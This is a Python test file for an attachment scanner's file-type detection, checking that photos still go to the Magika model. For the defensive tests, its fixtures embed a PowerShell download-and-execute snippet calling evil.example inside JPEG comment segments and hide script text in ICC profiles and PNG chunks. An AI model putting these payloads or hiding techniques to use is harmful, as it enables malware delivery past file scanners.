"""Type detection without a model call where the file's structure decides the type whatever
Magika says (`filetype_structure.decisive`): the same label as Magika and the structure
together give, and Magika not asked. Photos are always asked about (below)."""

from __future__ import annotations

import io
import struct
import zlib
from typing import Any

import pytest
from PIL import Image

from attachguard import samples
from attachguard.engines.base import Item
from attachguard.engines.filetype import FileTypeEngine
from attachguard.engines.filetype_structure import for_magika, structure
from attachguard.policy import Policy
from support.oletools_data import ole_file


class NoModel:
    """A Magika that must not be asked."""

    def identify_bytes(self, data: bytes) -> Any:
        raise AssertionError("Magika was asked")


@pytest.fixture(scope="module")
def magika() -> FileTypeEngine:
    return FileTypeEngine()


def before(engine: FileTypeEngine, data: bytes) -> str:
    """The label detection gave before: Magika's, corrected by the structure."""
    label = str(engine._magika().identify_bytes(for_magika(data)).output.label)
    return structure(data, label) or label


DECIDED = {
    "a Word document": ole_file({"WordDocument": b"\0" * 600, "1Table": b"\0" * 600}),
    "an Excel workbook": ole_file({"Workbook": b"\0" * 600}),
    "another compound file": ole_file({"Contents": b"\0" * 600}),
    "a WAV": samples.wav(20_000),
}
# Photos are always shown to the model. A shortcut that typed a whole PNG or JPEG by its
# structure was tried and dropped: two red teams made the model's answer differ from the
# structure's with text anywhere in the bytes it reads (a comment, an ICC profile, a
# stored-deflate IDAT, text broken into short runs), turning SCRIPT rejections into approvals.
_JPEG = samples.jpeg(samples.photo(640, 480, seed=3), exif=False)
_PNG = samples.png(samples.screenshot(120, 80))
_IEND = _PNG[-12:]
_SCRIPT = b"powershell -NoProfile -Command Write-Output MARKER\r\n" * 8


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    body = kind + payload
    return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))


def _app2_icc(text: bytes) -> bytes:
    payload = b"ICC_PROFILE\0\x01\x01" + text
    return b"\xff\xe2" + struct.pack(">H", len(payload) + 2) + payload


@pytest.mark.parametrize("name", DECIDED)
def test_decided_by_structure_without_the_model(magika: FileTypeEngine, name: str) -> None:
    data = DECIDED[name]
    skipping = FileTypeEngine()
    skipping._model = NoModel()
    found = skipping.detect(data)
    assert (found.label, found.score) == (before(magika, data), 1.0)


def test_anything_else_still_asks_the_model(magika: FileTypeEngine) -> None:
    skipping = FileTypeEngine()
    skipping._model = NoModel()
    broken_ole = ole_file({"WordDocument": b"\0" * 600})[:600]
    for data in (
        samples.xlsx([["a", 1]]),
        samples.pdf([["hello"]]),
        b"RIFF1234WAVEjunk",
        broken_ole,
        _JPEG,  # a whole photo, with nothing but picture structure where the model reads
        _PNG,
        _JPEG[:2] + _app2_icc(_SCRIPT) + _JPEG[2:],  # text in an ICC profile: the model reads it
        _PNG[:-12] + _png_chunk(b"IDAT", zlib.compress(_SCRIPT, 0)) + _IEND,  # stored: text
    ):
        with pytest.raises(AssertionError, match="Magika was asked"):
            skipping.detect(data)
        assert magika.detect(data).label == before(magika, data)


def test_forget_drops_the_remembered_answers() -> None:
    engine = FileTypeEngine()
    engine.forget()  # nothing loaded yet: nothing to drop
    data = samples.pdf([["hello"]])
    label = engine.detect(data).label
    remembered = engine._magika()._remembered
    assert remembered._answers  # (other scanners of the process share the model and answers)
    engine.forget()
    assert len(remembered._answers) == 0
    assert engine.detect(data).label == label and len(remembered._answers) == 1


def test_every_scanner_of_a_process_shares_one_model() -> None:
    first, second = FileTypeEngine(), FileTypeEngine()
    assert first._magika() is second._magika()
    data = samples.docx(["hello"])
    assert first.detect(data) == second.detect(data)


# A red team's photo that the shortcut approved: a decodable 16x16 JPEG with a PowerShell
# downloader (text only, never run) in a comment segment at each end, padded to fill the
# first and last KiB the model reads.
_DOWNLOADER = (
    b"$wc = New-Object System.Net.WebClient\n$u = 'https://evil.example/a.ps1'\n"
    b"Invoke-Expression ($wc.DownloadString($u))\n"
    b"Start-Process -WindowStyle Hidden powershell.exe -ArgumentList '-nop','-c','iex $x'\n"
) * 4


def test_a_script_at_both_ends_of_a_photo_is_read_by_the_model(
    magika: FileTypeEngine, policy: Policy
) -> None:
    comment = _DOWNLOADER + b"\n<!-- " + b"x" * 460 + b" -->\n"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    picture = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(picture, "JPEG", quality=90)
    photo = picture.getvalue()
    data = photo[:2] + segment + photo[2:-2] + segment + photo[-2:]
    Image.open(io.BytesIO(data)).load()  # a photo any viewer opens
    item = Item("photo.jpg", data, magika.detect(data), 0)
    assert item.type.label == "powershell"
    findings = magika.scan(item, policy.context()).findings
    assert [f.code.name for f in findings] == ["SCRIPT"]
